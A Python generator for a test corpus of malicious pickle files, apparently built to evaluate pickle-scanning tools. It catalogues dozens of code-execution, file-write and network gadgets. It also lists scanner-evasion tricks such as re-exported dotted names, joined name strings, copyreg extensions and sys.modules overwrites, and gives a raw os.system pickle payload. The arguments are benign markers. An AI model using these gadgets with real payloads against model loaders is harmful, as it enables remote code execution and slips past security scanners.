"""Functions that a pickle can call to run something, fetch something or change files: module, name, arguments, source.

Arguments are harmless (they would print or make an empty file) and never run here.
"""

from opcodes import Ops, build, call, name, old_name, pickled

COMMAND = "echo marker"
CODE = "print('marker')"
PATH = "/tmp/deepfix-safety-marker"
URL = "http://127.0.0.1:9/"

PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
FICKLING = "https://github.com/trailofbits/fickling/security/advisories/"
MODELSCAN = "https://github.com/protectai/modelscan/issues/"
SEEK = "of the kind collected in https://arxiv.org/abs/2508.19774"
LISTED = "https://github.com/mmaitre314/picklescan (its list of dangerous names and the notes beside it)"
DOCS = "https://docs.python.org/3/library/"

# Run a command.
COMMANDS = [
    ("os", "system", (COMMAND,), DOCS + "pickle.html"),
    ("posix", "system", (COMMAND,), LISTED),
    ("nt", "system", (COMMAND,), LISTED),
    ("os", "popen", (COMMAND,), LISTED),
    ("os", "execvp", ("echo", ["echo", "marker"]), LISTED),
    ("os", "posix_spawn", ("/bin/echo", ["echo", "marker"], {}), LISTED),
    ("subprocess", "Popen", (["echo", "marker"],), LISTED),
    ("subprocess", "run", (["echo", "marker"],), LISTED),
    ("subprocess", "check_output", (["echo", "marker"],), LISTED),
    ("subprocess", "getoutput", (COMMAND,), LISTED),
    ("commands", "getoutput", (COMMAND,), LISTED),
    ("_posixsubprocess", "fork_exec", (["echo"],), DOCS + "subprocess.html"),
    ("pty", "spawn", (["echo", "marker"],), PICKLESCAN + "GHSA-vqmv-47xg-9wpr"),
    ("multiprocessing.util", "spawnv_passfds", (b"/bin/echo", ["echo", "marker"], ()), MODELSCAN + "338"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", (None, ["echo"], False, None, None, None, 0), "CVE-2025-10157"),
    ("uuid", "_get_command_stdout", ("echo", "marker"), PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("_aix_support", "_read_cmd_output", (COMMAND,), PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("_osx_support", "_read_output", (COMMAND,), PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("_osx_support", "_find_build_tool", ("x; echo marker #",), FICKLING + "GHSA-5hwf-rc88-82xm"),
    ("imaplib", "IMAP4_stream", (COMMAND,), PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("_pyrepl.pager", "pipe_pager", ("marker", "cat"), PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("pydoc", "pipepager", ("marker", "cat"), LISTED),
    ("test.support.script_helper", "assert_python_ok", ("-c", CODE), PICKLESCAN + "GHSA-g38g-8gr9-h9xp"),
    ("mailcap", "findmatch", ({"text/plain": [{"view": "cat %s", "test": COMMAND}]}, "text/plain"), MODELSCAN + "346"),
    ("pip", "main", (["download", "marker", "--no-index"],), "CVE-2025-1716"),
    ("pip._internal", "main", (["--version"],), "CVE-2025-1716"),
    ("ensurepip", "_run_pip", (["--version"],), PICKLESCAN + "GHSA-xp4f-hrf8-rxw7"),
    ("venv", "main", (["--help"],), LISTED),
    ("webbrowser", "open", (URL,), LISTED),
    ("distutils.spawn", "spawn", (["echo", "marker"],), SEEK),
    ("ctypes", "CDLL", (PATH + ".so",), PICKLESCAN + "GHSA-4675-36f9-wf6r"),
    ("torch.utils.collect_env", "run", (COMMAND,), PICKLESCAN + "GHSA-f745-w6jp-hpxx"),
    ("torch.utils.cpp_extension", "load_inline", ("marker", ""), SEEK),
    ("torch._inductor.codecache", "compile_file", ("", "", ["echo", "marker"]), LISTED),
    ("numpy.distutils.exec_command", "exec_command", (COMMAND,), SEEK),
    ("mlflow.projects.backend.local", "_run_entry_point", (COMMAND, ".", "", ""), MODELSCAN + "338"),
    ("joblib.externals.loky.backend.fork_exec", "fork_exec", (["echo", "marker"], []), SEEK),
    ("IPython.utils.process", "system", (COMMAND,), SEEK),
    ("pexpect", "run", (COMMAND,), SEEK),
    ("antigravity", "fly", (), DOCS + "pickle.html (importing it opens a browser)"),
]

_INTERPRETER = call(name("code", "InteractiveInterpreter"))

# Run Python: source, code objects, modules, further pickles.
CODES = [
    ("builtins", "eval", (CODE,), DOCS + "pickle.html"),
    ("builtins", "exec", (CODE,), LISTED),
    ("__builtin__", "execfile", (PATH,), LISTED),
    ("builtins", "exec", (call(name("builtins", "compile"), CODE, "f", "exec"),), LISTED),
    ("builtins", "__import__", ("antigravity",), DOCS + "functions.html"),
    ("builtins", "breakpoint", (), LISTED),
    ("timeit", "timeit", ("pass", CODE), LISTED),
    ("timeit", "Timer.timeit", (call(name("timeit", "Timer"), CODE), 1), LISTED),
    ("cProfile", "run", (CODE,), PICKLESCAN + "GHSA-49gj-c84q-6qm9"),
    ("cProfile", "runctx", (CODE, {}, {}), PICKLESCAN + "GHSA-9w88-8rmg-7g2p"),
    ("profile", "run", (CODE,), PICKLESCAN + "GHSA-7wx9-6375-f5wh"),
    ("profile", "Profile.run", (call(name("profile", "Profile")), CODE), PICKLESCAN + "GHSA-x696-vm39-cp64"),
    ("profile", "Profile.runctx", (call(name("profile", "Profile")), CODE, {}, {}), PICKLESCAN + "GHSA-6vqj-c2q5-j97w"),
    ("trace", "Trace.run", (call(name("trace", "Trace")), CODE), PICKLESCAN + "GHSA-5qwp-399c-mjwf"),
    ("trace", "Trace.runctx", (call(name("trace", "Trace")), CODE), PICKLESCAN + "GHSA-g344-hcph-8vgg"),
    ("bdb", "Bdb.run", (call(name("bdb", "Bdb")), CODE), LISTED),
    ("pdb", "run", (CODE,), LISTED),
    ("doctest", "debug_script", (CODE,), PICKLESCAN + "GHSA-fqq6-7vqf-w3fg"),
    ("code", "interact", (), LISTED),
    ("code", "InteractiveInterpreter.runsource", (_INTERPRETER, CODE), PICKLESCAN + "GHSA-cj3c-v495-4xqh"),
    ("code", "InteractiveInterpreter.runcode", (_INTERPRETER, CODE), PICKLESCAN + "GHSA-cj3c-v495-4xqh"),
    ("runpy", "run_path", (PATH + ".py",), FICKLING + "GHSA-wfq2-52f7-7qvj"),
    ("runpy", "_run_code", (CODE, {}), LISTED),
    ("_interpreters", "run_string", (0, CODE), FICKLING + "GHSA-6ggj-6f2q-f7mx"),
    ("_xxsubinterpreters", "run_string", (0, CODE), FICKLING + "GHSA-6ggj-6f2q-f7mx"),
    ("idlelib.autocomplete", "AutoComplete.get_entity", (None, CODE), PICKLESCAN + "GHSA-6w4w-5w54-rjvr"),
    ("idlelib.autocomplete", "AutoComplete.fetch_completions", (None, CODE, 1), PICKLESCAN + "GHSA-7cq8-mj8x-j263"),
    ("idlelib.calltip", "Calltip.fetch_tip", (None, CODE), PICKLESCAN + "GHSA-8r4j-24qv-fmq9"),
    ("idlelib.calltip", "get_entity", (CODE,), PICKLESCAN + "GHSA-9xph-j2h6-g47v"),
    ("idlelib.debugobj", "ObjectTreeItem.SetText", (None, CODE), PICKLESCAN + "GHSA-3vg9-h568-4w9m"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", (None, CODE), PICKLESCAN + "GHSA-3gf5-cxq9-w223"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand", (None, CODE), PICKLESCAN + "GHSA-j343-8v2j-ff7w"),
    ("idlelib.run", "Executive.runcode", (None, CODE), PICKLESCAN + "GHSA-m869-42cg-3xwr"),
    ("lib2to3.pgen2.grammar", "Grammar.loads", (None, b""), PICKLESCAN + "GHSA-f54q-57x4-jg88"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, None, CODE), PICKLESCAN + "GHSA-p9w7-82w4-7q8m"),
    ("rlcompleter", "Completer.attr_matches", (None, "marker.x"), SEEK),
    ("typing", "_eval_type", (call(name("typing", "ForwardRef"), CODE), {}, {}), SEEK),
    ("dataclasses", "_create_fn", ("f", [], [CODE]), SEEK),
    ("site", "addpackage", ("/tmp", "marker.pth", None), SEEK),
    ("imp", "load_source", ("marker", PATH + ".py"), SEEK),
    ("logging.config", "dictConfig", ({"version": 1, "handlers": {"h": {"()": "os.system", "command": COMMAND}}},), SEEK),
    ("marshal", "loads", (b"N",), "https://github.com/mmaitre314/picklescan/pull/74"),
    ("types", "FunctionType", (call(name("marshal", "loads"), b"N"), {}), FICKLING + "GHSA-565g-hwwr-4pp3"),
    ("types", "CodeType", (0, 0, 0, 0, 0, 0, b"", (), (), (), "f", "f", "f", 1, b"", b""), LISTED),
    ("numpy.testing._private.utils", "runstring", (CODE, {}), LISTED),
    ("numpy.testing._private.utils", "rundocs", (PATH + ".py",), LISTED),
    ("numpy.f2py.crackfortran", "getlincoef", (CODE, {}), PICKLESCAN + "GHSA-r8g5-cgf2-4m4m"),
    ("numpy.f2py.crackfortran", "_eval_length", (CODE, {}), LISTED),
    ("numpy.f2py.capi_maps", "load_f2cmap_file", (PATH,), LISTED),
    ("pandas", "eval", ("@marker",), SEEK),
    ("pandas.core.computation.eval", "eval", ("@marker",), SEEK),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (None, CODE, []), PICKLESCAN + "GHSA-f4x7-rfwp-v3xw"),
    ("torch._dynamo.guards", "GuardBuilder.get", (None, CODE), PICKLESCAN + "GHSA-86cj-95qr-2p4f"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {}), PICKLESCAN + "GHSA-vr7h-p6mm-wpmh"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {}), PICKLESCAN + "GHSA-4r9r-ch6f-vxmx"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", (CODE, {}), PICKLESCAN + "GHSA-4whj-rm5r-c2v8"),
    ("torch.utils._config_module", "ConfigModule.load_config", (None, b""), PICKLESCAN + "GHSA-vv6j-3g6g-2pvj"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"N."), PICKLESCAN + "GHSA-h3qp-7fh3-f8h4"),
    ("torch.fx.graph_module", "_exec_with_source", (CODE, {}), SEEK),
    ("torch.fx.graph_module", "reduce_graph_module", ({"_code": CODE}, ""), SEEK),
    ("torch.hub", "load", ("marker/marker", "marker"), SEEK),
    ("torch.serialization", "load", (PATH,), LISTED),
    ("torch", "load", (PATH,), LISTED),
    ("numpy", "load", (PATH, None, True), LISTED),
    ("joblib", "load", (PATH,), LISTED),
    ("joblib.numpy_pickle", "load", (PATH,), LISTED),
    ("pandas", "read_pickle", (PATH,), LISTED),
    ("pickle", "loads", (b"cos\nsystem\n(Vecho marker\ntR.",), MODELSCAN + "267"),
    ("_pickle", "loads", (b"cos\nsystem\n(Vecho marker\ntR.",), PICKLESCAN + "GHSA-84r2-jw7c-4r5q"),
    ("shelve", "open", (PATH,), SEEK),
    ("statsmodels.iolib.smpickle", "load_pickle", (PATH,), SEEK),
    ("keras.models", "load_model", (PATH,), SEEK),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system [echo marker]",), SEEK),
    ("sympy", "sympify", (CODE,), SEEK),
    ("dill", "loads", (b"N.",), SEEK),
    ("dill._dill", "_import_module", ("os.system",), SEEK),
    ("cloudpickle.cloudpickle", "subimport", ("antigravity",), LISTED),
]

# Fetch, send, write, delete, or disturb the process.
REACHES = [
    ("urllib.request", "urlopen", (URL,), LISTED),
    ("urllib.request", "urlretrieve", (URL, PATH), MODELSCAN + "338"),
    ("http.client", "HTTPSConnection.request", (call(name("http.client", "HTTPSConnection"), "127.0.0.1"), "GET", "/"), LISTED),
    ("ftplib", "FTP", ("127.0.0.1",), SEEK),
    ("smtplib", "SMTP", ("127.0.0.1",), FICKLING + "GHSA-mxhj-88fx-4pcv"),
    ("telnetlib", "Telnet", ("127.0.0.1",), SEEK),
    ("socket", "create_connection", (("127.0.0.1", 9),), LISTED),
    ("ssl", "get_server_certificate", (("127.0.0.1", 9),), LISTED),
    ("requests.api", "get", (URL,), LISTED),
    ("pandas.io.parsers.readers", "read_csv", (URL,), MODELSCAN + "338"),
    ("torch.hub", "load_state_dict_from_url", (URL,), SEEK),
    ("builtins", "open", (PATH, "w"), LISTED),
    ("io", "open", (PATH, "w"), LISTED),
    ("_io", "FileIO", (PATH, "w"), PICKLESCAN + "GHSA-m273-6v24-x4m4"),
    ("pathlib", "Path.write_text", (call(name("pathlib", "Path"), PATH), "marker"), SEEK),
    ("pathlib", "Path.touch", (call(name("pathlib", "Path"), PATH),), SEEK),
    ("logging", "FileHandler", (PATH,), "CVE-2026-56304"),
    ("distutils.file_util", "write_file", (PATH, ["marker"]), PICKLESCAN + "GHSA-m273-6v24-x4m4"),
    ("shutil", "copyfile", ("/dev/null", PATH), LISTED),
    ("os", "makedirs", (PATH, 0o755, True), LISTED),
    ("linecache", "getline", ("/etc/hostname", 1), SEEK),
    ("numpy", "save", (PATH, 0), SEEK),
    ("numpy", "fromfile", ("/etc/hostname",), SEEK),
    ("torch", "save", (0, PATH), SEEK),
    ("sys", "exit", (), LISTED),
    ("os", "_exit", (0,), LISTED),
    ("faulthandler", "_sigsegv", (), SEEK),
    ("sys", "setrecursionlimit", (10_000,), LISTED),
    ("atexit", "register", (name("builtins", "print"), "marker"), SEEK),
]

# The same under the name of a module that looks innocent: a pickle of protocol 4 may give a dotted name.
REEXPORTS = [
    ("pathlib", "os.system", (COMMAND,), FICKLING + "GHSA-5j3x-jp52-966f"),
    ("argparse", "_os.system", (COMMAND,), FICKLING + "GHSA-5j3x-jp52-966f"),
    ("random", "_os.system", (COMMAND,), FICKLING + "GHSA-5j3x-jp52-966f"),
    ("posixpath", "os.system", (COMMAND,), FICKLING + "GHSA-5j3x-jp52-966f"),
    ("collections", "_sys.exit", (), FICKLING + "GHSA-5j3x-jp52-966f"),
    ("logging", "os.system", (COMMAND,), FICKLING + "GHSA-5j3x-jp52-966f"),
    ("torch.serialization", "os.system", (COMMAND,), "https://github.com/mmaitre314/picklescan/issues/66"),
    ("torch.storage", "io.open", (PATH, "w"), "https://github.com/mmaitre314/picklescan/issues/66"),
    ("torch._utils", "sys.exit", (), "https://github.com/mmaitre314/picklescan/issues/66"),
    ("torch.nn.modules.module", "warnings.sys.exit", (), "https://github.com/mmaitre314/picklescan/issues/66"),
    ("numpy", "f2py.subprocess.Popen", (["echo", "marker"],), "https://github.com/trailofbits/fickling/issues/15"),
    ("numpy", "lib._npyio_impl.os.system", (COMMAND,), "https://github.com/trailofbits/fickling/issues/15"),
    ("numpy.random._pcg64", "np.f2py.subprocess.Popen", (["echo", "marker"],), "own"),
    ("joblib.numpy_pickle", "os.system", (COMMAND,), "own"),
    ("joblib.numpy_pickle", "pickle.loads", (b"cos\nsystem\n(Vecho marker\ntR.",), "own"),
    ("sklearn.base", "np.f2py.subprocess.Popen", (["echo", "marker"],), "own"),
    ("sklearn", "logging.FileHandler", (PATH,), "own"),
    ("sklearn.utils._user_interface", "timeit.Timer", (CODE,), "own"),
    ("sklearn.utils.estimator_checks", "joblib.load", (PATH,), "own"),
    ("scipy.sparse._base", "np.f2py.subprocess.Popen", (["echo", "marker"],), "own"),
    ("scipy.sparse._matrix_io", "np.load", (PATH, None, True), "own"),
    ("xgboost.core", "ctypes.CDLL", (PATH + ".so",), "own"),
    ("xgboost.core", "os.system", (COMMAND,), "own"),
    ("lightgbm.basic", "ctypes.CDLL", (PATH + ".so",), "own"),
    ("lightgbm.basic", "np.f2py.subprocess.Popen", (["echo", "marker"],), "own"),
    ("pandas.core.generic", "pickle.loads", (b"cos\nsystem\n(Vecho marker\ntR.",), "own"),
    ("pandas.core.base", "np.f2py.subprocess.Popen", (["echo", "marker"],), "own"),
    ("pandas.core.computation.expr", "Expr", ("@list.__class__.__base__.__subclasses__()",), "own"),
    ("pandas.core.frame", "DataFrame.eval", (call(name("pandas.core.frame", "DataFrame")), "@marker"), "own"),
    ("catboost.core", "np.f2py.subprocess.Popen", (["echo", "marker"],), "own"),
]


def _import(module):
    return call(name("builtins", "__import__"), module)


def _get(value, attribute):
    return call(name("builtins", "getattr"), value, attribute)


def _joined(*parts):
    return call(_get("", "join"), list(parts))


_SYSTEM = name("os", "system")

# The function is not named, but got hold of while loading.
INDIRECT = {
    "getattr_chain": (call(_get(_import("os"), "system"), COMMAND), LISTED),
    "names_joined": (call(_get(_import(_joined("o", "s")), _joined("sys", "tem")), COMMAND), MODELSCAN + "331"),
    "import_module": (call(_get(call(name("importlib", "import_module"), "os"), "system"), COMMAND), "https://github.com/mmaitre314/picklescan/pull/74"),
    "stack_global_of_joined": (
        call(Ops(_joined("o", "s") + _joined("sys", "tem") + b"\x93"), COMMAND),
        MODELSCAN + "331",
    ),
    "attrgetter": (call(call(name("operator", "attrgetter"), "system"), _import("os")), PICKLESCAN + "GHSA-46h3-79wf-xr6c"),
    "_operator_attrgetter": (call(call(name("_operator", "attrgetter"), "system"), _import("os")), PICKLESCAN + "GHSA-46h3-79wf-xr6c"),
    "methodcaller": (call(call(name("operator", "methodcaller"), "system", COMMAND), _import("os")), PICKLESCAN + "GHSA-955r-x9j8-7rhh"),
    "partial": (call(call(name("functools", "partial"), _SYSTEM, COMMAND)), LISTED),
    "partial_state": (build(call(name("functools", "partial"), name("builtins", "print")), (_SYSTEM, (COMMAND,), {}, None)), LISTED),
    "reduce": (call(name("functools", "reduce"), name("builtins", "getattr"), [_import("os"), "system"]), SEEK),
    "map": (call(name("builtins", "list"), call(name("builtins", "map"), _SYSTEM, [COMMAND])), SEEK),
    "filter": (call(name("builtins", "set"), call(name("builtins", "filter"), _SYSTEM, [COMMAND])), SEEK),
    "starmap": (call(name("builtins", "tuple"), call(name("itertools", "starmap"), _SYSTEM, [(COMMAND,)])), SEEK),
    "apply": (call(old_name("__builtin__", "apply"), _SYSTEM, (COMMAND,)), LISTED),
    "resolve_name": (call(call(name("pkgutil", "resolve_name"), "os:system"), COMMAND), PICKLESCAN + "GHSA-vvpj-8cmc-gx39"),
    "pydoc_locate": (call(call(name("pydoc", "locate"), "os.system"), COMMAND), PICKLESCAN + "GHSA-84r2-jw7c-4r5q"),
    "mock_importer": (call(_get(call(name("unittest.mock", "_importer"), "os"), "system"), COMMAND), SEEK),
    "sys_modules": (call(_get(call(name("operator", "getitem"), name("sys", "modules"), "os"), "system"), COMMAND), LISTED),
    "newobj_of_copyreg": (call(name("copyreg", "__newobj__"), name("subprocess", "Popen"), ["echo"]), SEEK),
    "reconstructor": (build(call(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), None), {"pid": 1}), SEEK),
    "add_extension": (Ops(call(name("copyreg", "add_extension"), "os", "system", 250) + b"0\x82\xfa" + b"(Vecho marker\ntR"), SEEK),
    "class_with_setstate": (
        build(call(call(name("builtins", "type"), "C", (), {"__setstate__": _SYSTEM})), COMMAND),
        FICKLING + "GHSA-6ggj-6f2q-f7mx",
    ),
    "numpy_builtins": (
        # numpy.size is given a `shape` that is its module's `__builtins__`, and so comes to call eval.
        call(call(build(name("numpy", "size"), ({}, {"shape": name("numpy", "__builtins__")})), name("numpy", "size"), "eval"), CODE),
        MODELSCAN + "330",
    ),
    "function_attributes": (
        # Names are put on a function as attributes and taken from there.
        Ops(
            build(name("numpy", "prod"), (None, {"a": "os", "b": "system"})) + b"0"
            + call(Ops(name("numpy", "prod.a") + name("numpy", "prod.b") + b"\x93"), COMMAND)
        ),
        MODELSCAN + "85",
    ),
    "sys_modules_overwritten": (
        Ops(build(name("sys", "modules"), {"json": name("sys", "modules")}) + b"0" + call(name("json", "get"), "os")),
        "https://arxiv.org/abs/2607.17503",
    ),
    "weakref_finalize": (call(name("weakref", "finalize"), name("collections", "OrderedDict"), _SYSTEM, COMMAND), SEEK),
    "codecs_register": (call(name("codecs", "register"), _SYSTEM), SEEK),
    "defaultdict_factory": (
        call(_get(call(name("collections", "defaultdict"), call(name("functools", "partial"), _SYSTEM, COMMAND)), "__missing__"), 0),
        SEEK,
    ),
}


def pickles():
    """(file, category, technique, source, pickle)"""
    seen = set()
    for category, table in (("commands", COMMANDS), ("code", CODES), ("reaches", REACHES), ("reexport", REEXPORTS)):
        for module, attribute, arguments, source in table:
            stem = f"{category}_{module}_{attribute}".replace(".", "-")
            if stem in seen:
                stem += "_2"
            seen.add(stem)
            yield stem, category, f"calls {module}.{attribute}", source, pickled(call(name(module, attribute), *arguments))
    for stem, (ops, source) in INDIRECT.items():
        yield f"indirect_{stem}", "indirect", stem.replace("_", " "), source, pickled(ops)
